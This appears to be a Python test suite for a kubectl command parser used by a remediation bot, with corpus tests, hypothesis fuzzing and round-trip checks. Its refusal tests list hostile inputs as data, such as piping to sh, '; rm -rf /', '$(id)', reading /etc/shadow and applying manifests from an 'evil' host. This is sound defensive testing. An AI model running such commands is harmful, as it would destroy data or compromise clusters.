"""The kubectl parser: real-world corpus, attacker corpus, fuzzing and rendering round-trips."""

from __future__ import annotations

import shlex
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bot.rca.actions import build_action
from policies.kubectl import Parsed, parse_kubectl
from policies.kubectl_corpus import DANGEROUS, READ, REAL_WORLD, REFUSED, Case

METACHARACTERS = ("|", ";", "&", "$(", "${", "`", ">", "<", "\n", "\r")


def test_corpus_sizes() -> None:
    assert len(REAL_WORLD) >= 100
    assert len(DANGEROUS) >= 30
    assert len({case.command for case in REAL_WORLD}) == len(REAL_WORLD)
    assert len(set(DANGEROUS)) == len(DANGEROUS)


@pytest.mark.parametrize("case", REAL_WORLD, ids=lambda case: case.command[:60])
def test_real_world(case: Case) -> None:
    parsed = parse_kubectl(case.command)
    assert parsed.command == case.command
    assert parsed.verb == case.verb, parsed.refusal
    if case.outcome == READ:
        assert parsed.read_only and parsed.accepted, parsed.refusal
        assert parsed.action is None and parsed.refusal is None
    elif case.outcome == REFUSED:
        assert parsed.refusal and not parsed.accepted
        assert parsed.action is None and not parsed.read_only
    else:
        assert parsed.action is not None, parsed.refusal
        assert (parsed.action.kind, parsed.action.target) == (case.outcome, case.target)
        assert parsed.refusal is None and not parsed.read_only


@pytest.mark.parametrize("command", DANGEROUS, ids=lambda command: repr(command)[:60])
def test_dangerous_commands_are_refused(command: str) -> None:
    parsed = parse_kubectl(command)
    assert parsed.action is None
    assert not parsed.accepted
    assert parsed.refusal


@pytest.mark.parametrize(
    ("command", "reason"),
    [
        ("kubectl get pods | sh", "pipe"),
        ("kubectl scale deploy/x --replicas=1; rm -rf /", "command separator"),
        ("kubectl get pods && kubectl delete ns x", "&&"),
        ("kubectl get pods\nkubectl delete ns x", "one command only"),
        ("kubectl get pods $(id)", "shell expansion"),
        ("kubectl get pods `id`", "command substitution"),
        ('kubectl get pods "x', "cannot split"),
        ("kubectl --as=system:admin get pods", "credential"),
        ("kubectl -s https://evil get pods", "credential"),
        ("kubectl \u2014as=x get pods", "look-alike"),
        ("KUBECONFIG=/x kubectl get pods", "environment assignment"),
        ("sudo kubectl get pods", "wrapped"),
        ("kubectl frobnicate pods", "unknown or unsupported verb"),
        ("kubectl rollout frobnicate deploy/x", "unknown or unsupported verb"),
        ("kubectl delete ns prod", "only a single named pod"),
        ("kubectl get secrets -v=9", "response bodies"),
        ("kubectl get pods -o go-template-file=/etc/shadow", "local file"),
        ("kubectl DELETE pod x", "unknown or unsupported verb"),
        ("kubectl delete pods --all", "--all"),
        ("kubectl delete pod x --grace-period=0", "grace-period"),
        ("kubectl scale deploy/x --replicas=1 --dry-run=server", "dry-run"),
        ("kubectl rollout restart deploy", "names no object"),
        ("kubectl scale deploy/x --replicas=100000", "between 0 and"),
        ("kubectl apply -f http://evil/x.yaml", "manifests"),
        ("kubectl exec -it x -- sh", "runs commands inside containers"),
    ],
)
def test_refusal_reasons(command: str, reason: str) -> None:
    refusal = parse_kubectl(command).refusal
    assert refusal is not None and reason in refusal


def test_namespace_is_none_when_not_given_but_target_uses_default() -> None:
    parsed = parse_kubectl("kubectl rollout restart deploy/web")
    assert parsed.namespace is None
    assert parsed.action is not None and parsed.action.target == "default/Deployment/web"
    assert parse_kubectl("kubectl -n prod rollout restart deploy/web").namespace == "prod"
    assert parse_kubectl("kubectl get pods --namespace=x").namespace == "x"
    assert parse_kubectl("kubectl -nprod get pods").namespace == "prod"
    assert parse_kubectl("kubectl -n=prod get pods").namespace == "prod"


def test_argv_input_is_not_shell_parsed() -> None:
    argv = ["kubectl", "-n", "prod", "scale", "deploy/web", "--replicas=2"]
    parsed = parse_kubectl(argv)
    assert parsed.command == shlex.join(argv)
    assert parsed.action is not None and parsed.action.params == {"replicas": 2}
    # With no shell, glob characters are plain data; metacharacters are still refused.
    assert parse_kubectl(["kubectl", "get", "pods", "-o", "jsonpath={.items[*]}"]).read_only
    assert not parse_kubectl(["kubectl", "get", "pods", "x;id"]).accepted
    assert not parse_kubectl(["kubectl", "get", "pods", "a\nb"]).accepted


def test_bad_input_types_are_refused() -> None:
    for bad in ([], [1, 2], None, 42, b"kubectl get pods"):
        parsed = parse_kubectl(bad)  # type: ignore[arg-type]
        assert isinstance(parsed, Parsed) and not parsed.accepted and parsed.refusal


def test_action_parameters() -> None:
    parsed = parse_kubectl(
        "kubectl set resources deploy/web -c app --limits=memory=1Gi,cpu=2 "
        "--requests=cpu=500m -n prod"
    )
    assert parsed.action is not None
    assert parsed.action.params["limits"] == {"cpu": "2", "memory": "1Gi"}
    assert parsed.action.params["requests"] == {"cpu": "500m"}
    undo = parse_kubectl("kubectl rollout undo deploy/web --to-revision=3").action
    assert undo is not None and undo.params == {"to_revision": 3}
    previous = parse_kubectl("kubectl rollout undo deploy/web --to-revision=0").action
    assert previous is not None and previous.params == {}
    hpa = parse_kubectl('kubectl patch hpa web -p \'{"spec":{"maxReplicas":9}}\'').action
    assert hpa is not None and hpa.params == {"max_replicas": 9}
    helm = parse_kubectl("helm rollback web -n prod").action
    assert helm is not None and helm.params == {"release": "web", "revision": 0}


# --- fuzzing --------------------------------------------------------------------------------

_WORDS = st.sampled_from(
    [
        "kubectl", "helm", "rollback", "get", "pods", "delete", "pod", "scale", "rollout",
        "restart", "undo", "set", "image", "resources", "patch", "cordon", "uncordon", "deploy/web",
        "deploy", "web", "sts/db", "cj/x", "hpa/x", "node/n1", "-n", "prod", "--replicas=3",
        "--replicas", "3", "-c", "app", "--limits=cpu=1", "app=nginx:1", "--to-revision=2", "-p",
        '{"spec":{"suspend":true}}', '{"spec":{"maxReplicas":4}}', "--as=x", "-s", "--all", "-A",
        "-l", "app=x", "--", "-", "--type=merge", "-it", "--force", "'", '"', ";", "|", "$(",
        "`", "\\", "\u2014as", "",
    ]
)  # fmt: skip


def _assert_safe(parsed: Parsed) -> None:
    assert isinstance(parsed, Parsed)
    assert not (parsed.refusal or "").startswith("internal parser error"), parsed.refusal
    if parsed.refusal is not None:
        assert parsed.action is None and not parsed.read_only
    if parsed.action is not None:
        assert not parsed.read_only and parsed.refusal is None
        for rendering in (parsed.action.kubectl, parsed.action.rollback or ""):
            assert not any(meta in rendering for meta in METACHARACTERS), rendering


@settings(max_examples=400, deadline=None)
@given(st.text(max_size=200))
def test_arbitrary_text_never_raises(text: str) -> None:
    _assert_safe(parse_kubectl(text))
    _assert_safe(parse_kubectl("kubectl " + text))


@settings(max_examples=400, deadline=None)
@given(st.lists(st.text(max_size=30), max_size=8))
def test_arbitrary_argv_never_raises(argv: list[str]) -> None:
    _assert_safe(parse_kubectl(argv))
    _assert_safe(parse_kubectl(["kubectl", *argv]))


@settings(max_examples=600, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(_WORDS, min_size=1, max_size=9))
def test_kubectl_shaped_word_salad(words: list[str]) -> None:
    _assert_safe(parse_kubectl(words))
    _assert_safe(parse_kubectl(" ".join(words)))


# --- rendering round-trip -------------------------------------------------------------------

_NAMES = st.from_regex(r"[a-z0-9]([-a-z0-9]{0,10}[a-z0-9])?", fullmatch=True)
_QUANTITIES = st.from_regex(r"[1-9][0-9]{0,2}(m|Mi|Gi)?", fullmatch=True)


@st.composite
def _actions(draw: st.DrawFn) -> tuple[str, str, dict[str, Any]]:
    """A valid (kind, target, params) for build_action, across the whole catalogue."""
    kind = draw(
        st.sampled_from(
            [
                "rollout_restart", "rollout_undo", "scale", "set_resources", "set_image",
                "delete_pod", "cordon", "uncordon", "suspend_cronjob", "resume_cronjob",
                "helm_rollback",
            ]
        )
    )  # fmt: skip
    ns, name = draw(_NAMES), draw(_NAMES)
    workload = draw(st.sampled_from(["Deployment", "StatefulSet", "DaemonSet"]))
    params: dict[str, Any] = {}
    if kind in ("rollout_restart", "rollout_undo", "set_resources", "set_image"):
        target = f"{ns}/{workload}/{name}"
        if kind == "rollout_undo" and draw(st.booleans()):
            params["to_revision"] = draw(st.integers(1, 500))
        if kind in ("set_resources", "set_image"):
            params["container"] = draw(_NAMES)
        if kind == "set_resources":
            params["limits"] = {"memory": draw(_QUANTITIES)}
            params["requests"] = draw(st.sampled_from([{}, {"cpu": "250m"}]))
        if kind == "set_image":
            params["image"] = draw(st.sampled_from(["nginx:1.25", "ghcr.io/a/b@sha256:ab12"]))
    elif kind == "scale":
        if draw(st.booleans()):
            target = f"{ns}/HorizontalPodAutoscaler/{name}"
            params["max_replicas"] = draw(st.integers(0, 500))
        else:
            target = f"{ns}/{draw(st.sampled_from(['Deployment', 'StatefulSet']))}/{name}"
            params["replicas"] = draw(st.integers(0, 500))
    elif kind == "delete_pod":
        target = f"{ns}/Pod/{name}"
    elif kind in ("cordon", "uncordon"):
        target = f"Node/{name}"
    elif kind in ("suspend_cronjob", "resume_cronjob"):
        target = f"{ns}/CronJob/{name}"
    else:
        target = f"{ns}/Deployment/{name}"
        params = {"release": name, "revision": draw(st.integers(0, 500))}
    return kind, target, params


@settings(max_examples=300, deadline=None)
@given(_actions())
def test_rendering_round_trips(spec: tuple[str, str, dict[str, Any]]) -> None:
    action = build_action(*spec)
    for command in (action.kubectl, shlex.split(action.kubectl)):
        parsed = parse_kubectl(command)
        assert parsed.action is not None, (action.kubectl, parsed.refusal)
        assert (parsed.action.kind, parsed.action.target) == (action.kind, action.target)
        assert parsed.action.params == action.params
        assert parsed.action.kubectl == action.kubectl


@pytest.mark.parametrize(
    "case", [c for c in REAL_WORLD if c.outcome not in (READ, REFUSED)], ids=lambda c: c.command
)
def test_corpus_actions_round_trip(case: Case) -> None:
    action = parse_kubectl(case.command).action
    assert action is not None
    again = parse_kubectl(action.kubectl).action
    assert again is not None and (again.kind, again.target) == (action.kind, action.target)
    assert again.params == action.params
    if action.rollback:
        back = parse_kubectl(action.rollback)
        assert back.action is not None, back.refusal
        assert back.action.target == action.target
